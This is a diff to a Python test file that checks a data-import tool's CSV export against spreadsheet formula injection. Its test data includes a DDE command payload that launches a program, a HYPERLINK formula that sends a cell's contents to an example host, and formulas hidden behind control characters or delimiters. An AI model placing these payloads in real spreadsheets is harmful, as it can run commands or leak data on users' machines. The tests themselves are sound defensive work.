@@ -1,5 +1,6 @@
 """Imports by a mapping: every row arrives or is in `rejected.csv`, and nothing is half done."""
 
+import csv
 import datetime as dt
 import json
 from pathlib import Path
@@ -326,8 +327,8 @@ def test_when_nothing_can_be_kept_the_commonest_reasons_are_told(job):
 
 KEYS = (
     "as_of, attributes, because, bonus_rewards_individual, column, columns, compa_from, compa_to, constant, currency, "
-    "dataset, date, delimiter, encoding, file, max, max_pct, merit_matrix, min, min_pct, missing, query, rating, "
-    "rating_scale, set_aside, source, sql, tables, target_pct, title, values"
+    "dataset, date, delimiter, encoding, file, key, max, max_pct, merit_matrix, min, min_pct, missing, pseudonyms, "
+    "query, rating, rating_scale, set_aside, source, sql, tables, target_pct, title, values"
 )
 ONE = "name exactly one of"
 SCALAR = "is neither text nor a number, a date, true or false"
@@ -737,6 +738,76 @@ def test_a_failure_leaves_an_earlier_data_set_as_it_was(job, monkeypatch):
     with pytest.raises(OSError, match="the disk went away"):
         job.bring_in()
     assert job.tree() == before
+
+
+# --- for a person's spreadsheet -------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?"&A1,"open")', "+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "\uff1d1+1",
+    "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "==1", "=cmd|' /C calc'!A0", "-2", "ops;=1+1", "ops\t=1", "ops\r=1",
+    "ops\r\n@1", "ops|+1",
+]  # fmt: skip
+HARMLESS = [
+    "ops",
+    "a=b",
+    "a - b",
+    "ana@bank.example",
+    "1-2",
+    "'=1",
+    "<script>",
+    "{{7*7}}",
+    "\u202eops",
+    " =1",
+    "",
+    "ops; -1",
+]
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def cells(path: Path, delimiter: str = ",") -> list[str]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_text_and_no_header_is_run_as_a_formula(tmp_path, text):
+    frame = pd.DataFrame({text: [text, "ops"], "n": [1, 2], "mixed": [text, -1]})
+    sources.safe_csv(frame, tmp_path / "a.csv")
+    read = cells(tmp_path / "a.csv")
+    assert len(read) == 9 and read[-3:] == ["ops", "2", "-1"]
+    written = [cell for sign in ",;\t|" for cell in cells(tmp_path / "a.csv", sign)]
+    assert [cell for cell in written if cell.startswith(STARTS) and not cell.startswith("-1")] == []
+
+
+def test_numbers_dates_and_harmless_texts_stay_as_they_are(tmp_path):
+    n = len(HARMLESS)
+    numbers = pd.DataFrame({"n": [-1.5] * n, "on": pd.to_datetime(["2024-01-01"] * n), "is": True, "no": None})
+    frame = numbers.assign(text=HARMLESS, day=dt.date(2024, 1, 1), kind=pd.Categorical(HARMLESS))
+    sources.safe_csv(frame, tmp_path / "safe.csv")
+    frame.to_csv(tmp_path / "plain.csv", index=False)
+    assert (tmp_path / "safe.csv").read_bytes() == (tmp_path / "plain.csv").read_bytes()
+
+
+def test_a_formula_in_an_export_reaches_no_cell_of_the_rejected_rows(job):
+    reviews = REVIEWS + 'ana,H2,2023-12-01,";=1+1",ops\nana,H3,2023-12-01,"\r@SUM(A1)",ops\n'
+    set_aside = changed("file: staff.csv", "file: '=*.csv'\n    set_aside: [{sql: Id = 'cat', because: '=left'}]")
+    job.write(set_aside, staff__csv=None, reviews__csv=reviews)
+    (job.folder / "exports/=1+1.csv").write_text(STAFF + "cat,2020-01-01\n")
+    job.bring_in()
+    assert cells(job.out / "rejected.csv")[4:8] == ["people", "'=1+1.csv", "4", "'=left"]
+    assert pd.read_csv(job.out / "rejected.csv").reason.tolist()[1:] == [
+        "rating is not a number: ;'=1+1",
+        "rating is not a number: \n'@SUM(A1)",
+    ]
+
+
+def test_csv_files_are_written_in_two_places_only():
+    """For people by `safe_csv`; and by `simulate`, whose tables are read again and hold no text of others."""
+    library = {path.stem: path.read_text("utf-8") for path in (ROOT / "lib/learnalign").glob("*.py")}
+    assert {name: text.count(".to_csv(") for name, text in library.items() if ".to_csv(" in text} == {
+        "sources": 1,
+        "simulate": 1,
+    }
 
 
 # --- real data ----------------------------------------------------------------------------------
